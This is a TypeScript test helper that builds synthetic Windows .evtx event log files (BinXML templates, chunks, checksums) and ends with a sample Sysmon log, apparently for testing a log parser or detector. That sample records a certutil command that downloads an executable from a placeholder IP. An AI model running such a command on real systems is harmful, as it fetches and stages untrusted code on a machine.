import { crc32 } from '../../src/input/crc32.js';

/**
 * A small writer of valid .evtx files, for tests: each record is a template instance whose
 * definition follows inline, its names inline, its values given as (type, bytes). Enough to
 * put every value type, optional substitutions, nested BinXML and damage into a file
 * without a Windows machine.
 */
export type Content = XmlNode | { sub: number; optional?: boolean; type?: number } | { text: string } | { entity: string } | { charRef: number } | { cdata: string };
export interface XmlNode {
  name: string;
  attrs?: [string, { sub: number; optional?: boolean; type?: number } | { text: string }][];
  children?: Content[];
}
export interface Value {
  type: number;
  /** The bytes, or (for BinXML values, which hold chunk offsets) a function of where they land. */
  bytes: Buffer | ((at: number) => Buffer);
}
export interface RecordSpec {
  id: number;
  /** FILETIME of the record header (100 ns since 1601). */
  time?: bigint;
  template: XmlNode;
  values: Value[];
}

const u16 = (n: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b; };
const utf16 = (s: string) => Buffer.from(s, 'utf16le');

/** Bytes written at a known chunk offset, so inline names can point at themselves. */
class Out {
  parts: Buffer[] = [];
  constructor(public at: number) {}
  push(b: Buffer): void {
    this.parts.push(b);
    this.at += b.length;
  }
  name(s: string): void {
    this.push(u32(this.at + 4));
    this.push(Buffer.concat([u32(0), u16(0), u16(s.length), utf16(s), u16(0)]));
  }
}

function element(o: Out, node: XmlNode): void {
  const attrs = node.attrs ?? [];
  o.push(Buffer.from([attrs.length ? 0x41 : 0x01]));
  o.push(u16(0xffff));
  o.push(u32(0)); // data size: not needed to read
  o.name(node.name);
  if (attrs.length) o.push(u32(0));
  attrs.forEach(([name, v], i) => {
    o.push(Buffer.from([i < attrs.length - 1 ? 0x46 : 0x06]));
    o.name(name);
    content(o, v);
  });
  if (!node.children) {
    o.push(Buffer.from([0x03]));
    return;
  }
  o.push(Buffer.from([0x02]));
  for (const c of node.children) content(o, c);
  o.push(Buffer.from([0x04]));
}

function content(o: Out, c: Content): void {
  if ('name' in c) element(o, c);
  else if ('sub' in c) o.push(Buffer.concat([Buffer.from([c.optional ? 0x0e : 0x0d]), u16(c.sub), Buffer.from([c.type ?? 0x01])]));
  else if ('text' in c) o.push(Buffer.concat([Buffer.from([0x05, 0x01]), u16(c.text.length), utf16(c.text)]));
  else if ('entity' in c) {
    o.push(Buffer.from([0x09]));
    o.name(c.entity);
  } else if ('charRef' in c) o.push(Buffer.concat([Buffer.from([0x08]), u16(c.charRef)]));
  else o.push(Buffer.concat([Buffer.from([0x07]), u16(c.cdata.length), utf16(c.cdata)]));
}

/** A template instance (definition inline) at chunk offset `at`: the BinXML of a record or of a BinXML value. */
export function templateInstance(at: number, template: XmlNode, values: Value[]): Buffer {
  const o = new Out(at);
  o.push(Buffer.from([0x0f, 0x01, 0x01, 0x00]));
  o.push(Buffer.from([0x0c, 0x01]));
  o.push(u32(0x1234));
  o.push(u32(o.at + 4));
  const def = new Out(o.at + 24);
  def.push(Buffer.from([0x0f, 0x01, 0x01, 0x00]));
  element(def, template);
  def.push(Buffer.from([0x00]));
  const data = Buffer.concat(def.parts);
  o.push(Buffer.concat([u32(0), Buffer.alloc(16, 0xab), u32(data.length), data]));
  o.push(u32(values.length));
  const sized = (val: Value, at: number) => (typeof val.bytes === 'function' ? val.bytes(at) : val.bytes);
  for (const val of values) o.push(Buffer.concat([u16(sized(val, 0).length), Buffer.from([val.type, 0])]));
  for (const val of values) o.push(sized(val, o.at));
  o.push(Buffer.from([0x00]));
  return Buffer.concat(o.parts);
}

/** One 64 KiB chunk holding the records (a BinXML value's bytes are laid out by `valueAt`). */
export function chunk(records: RecordSpec[]): Buffer {
  const buf = Buffer.alloc(65536);
  let at = 512;
  let last = at;
  for (const r of records) {
    const binxml = templateInstance(at + 24, r.template, r.values);
    const size = 24 + binxml.length + 4;
    buf.writeUInt32LE(0x2a2a, at);
    buf.writeUInt32LE(size, at + 4);
    buf.writeBigUInt64LE(BigInt(r.id), at + 8);
    buf.writeBigUInt64LE(r.time ?? 132000000000000000n, at + 16);
    binxml.copy(buf, at + 24);
    buf.writeUInt32LE(size, at + size - 4);
    last = at;
    at += size;
  }
  buf.write('ElfChnk\0', 0, 'latin1');
  const first = records[0]?.id ?? 1;
  const lastId = records[records.length - 1]?.id ?? 0;
  for (const [off, v] of [[8, first], [16, lastId], [24, first], [32, lastId]] as const) buf.writeBigUInt64LE(BigInt(v), off);
  buf.writeUInt32LE(128, 40);
  buf.writeUInt32LE(last, 44);
  buf.writeUInt32LE(at, 48);
  buf.writeUInt32LE(crc32(buf.subarray(512, at)), 52);
  buf.writeUInt32LE(crc32(buf.subarray(0, 120), buf.subarray(128, 512)), 124);
  return buf;
}

/** A file header for `count` chunks (flags: 1 dirty, 2 full), checksum right. */
export function fileHeader(count: number, flags = 0): Buffer {
  const h = Buffer.alloc(4096);
  h.write('ElfFile\0', 0, 'latin1');
  h.writeBigUInt64LE(BigInt(Math.max(0, count - 1)), 16);
  h.writeUInt32LE(128, 32);
  h.writeUInt16LE(2, 36);
  h.writeUInt16LE(3, 38);
  h.writeUInt16LE(4096, 40);
  h.writeUInt16LE(count, 42);
  h.writeUInt32LE(flags, 120);
  h.writeUInt32LE(crc32(h.subarray(0, 120)), 124);
  return h;
}

/** A whole file: header then chunks. */
export function evtxFile(chunks: Buffer[], flags = 0): Buffer {
  return Buffer.concat([fileHeader(chunks.length, flags), ...chunks]);
}

/** The usual System part: EventRecordID and TimeCreated from substitutions 0 and 1. */
export function eventTemplate(data: Content[]): XmlNode {
  return {
    name: 'Event',
    attrs: [['xmlns', { text: 'http://schemas.microsoft.com/win/2004/08/events/event' }]],
    children: [
      { name: 'System', children: [
        { name: 'EventID', children: [{ sub: 2, type: 0x06 }] },
        { name: 'TimeCreated', attrs: [['SystemTime', { sub: 1, type: 0x11 }]] },
        { name: 'EventRecordID', children: [{ sub: 0, type: 0x0a }] },
      ] },
      ...data,
    ],
  };
}

export const v = {
  u64: (n: bigint): Value => { const b = Buffer.alloc(8); b.writeBigUInt64LE(n); return { type: 0x0a, bytes: b }; },
  filetime: (n: bigint): Value => { const b = Buffer.alloc(8); b.writeBigUInt64LE(n); return { type: 0x11, bytes: b }; },
  u16: (n: number): Value => ({ type: 0x06, bytes: u16(n) }),
  str: (s: string): Value => ({ type: 0x01, bytes: utf16(s) }),
  raw: (type: number, bytes: Buffer | number[]): Value => ({ type, bytes: Buffer.from(bytes) }),
  /** A BinXML value (type 0x21): a template instance of its own, with its own values. */
  binxml: (template: XmlNode, values: Value[]): Value => ({ type: 0x21, bytes: (at: number) => templateInstance(at, template, values) }),
};

/** The values of eventTemplate's System part for record `id`. */
export function systemValues(id: number, eventId = 1): Value[] {
  return [v.u64(BigInt(id)), v.filetime(132000000000000000n + BigInt(id) * 10_000_000n), v.u16(eventId)];
}

/** A record as Windows writes it: System with provider, id, time, record id, channel and computer; EventData of named strings. */
export function windowsRecord(r: { id: number; provider: string; channel: string; computer: string; eventId: number; time: string; data: Record<string, string> }): RecordSpec {
  const names = Object.keys(r.data);
  const template: XmlNode = {
    name: 'Event',
    attrs: [['xmlns', { text: 'http://schemas.microsoft.com/win/2004/08/events/event' }]],
    children: [
      { name: 'System', children: [
        { name: 'Provider', attrs: [['Name', { sub: 0 }]] },
        { name: 'EventID', attrs: [['Qualifiers', { sub: 1, type: 0x06 }]], children: [{ sub: 2, type: 0x06 }] },
        { name: 'TimeCreated', attrs: [['SystemTime', { sub: 3, type: 0x11 }]] },
        { name: 'EventRecordID', children: [{ sub: 4, type: 0x0a }] },
        { name: 'Channel', children: [{ sub: 5 }] },
        { name: 'Computer', children: [{ sub: 6 }] },
      ] },
      { name: 'EventData', children: names.map((name, i) => ({ name: 'Data', attrs: [['Name', { text: name }]], children: [{ sub: 7 + i }] })) },
    ],
  };
  const ticks = BigInt(Date.parse(r.time)) * 10_000n + 116444736000000000n;
  return {
    id: r.id,
    time: ticks,
    template,
    values: [v.str(r.provider), v.raw(0x00, []), v.u16(r.eventId), v.filetime(ticks), v.u64(BigInt(r.id)), v.str(r.channel), v.str(r.computer), ...names.map((n) => v.str(r.data[n]!))],
  };
}

/** A small Sysmon log: certutil.exe started with a URL, then its connection to a public address. */
export function sysmonSample(): Buffer {
  const common = { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'WS-01.example.corp' };
  const guid = '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}';
  return evtxFile([chunk([
    windowsRecord({ ...common, id: 101, eventId: 1, time: '2024-05-14T08:00:00.000Z', data: {
      UtcTime: '2024-05-14 08:00:00.000', ProcessGuid: guid, ProcessId: '4242', Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe', User: 'WS-01\\alice',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd8}', ParentProcessId: '4000',
    } }),
    windowsRecord({ ...common, id: 102, eventId: 3, time: '2024-05-14T08:00:01.000Z', data: {
      UtcTime: '2024-05-14 08:00:01.000', ProcessGuid: guid, ProcessId: '4242', Image: 'C:\\Windows\\System32\\certutil.exe',
      User: 'WS-01\\alice', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: '50000',
      DestinationIp: '203.0.113.7', DestinationPort: '80',
    } }),
  ])]);
}
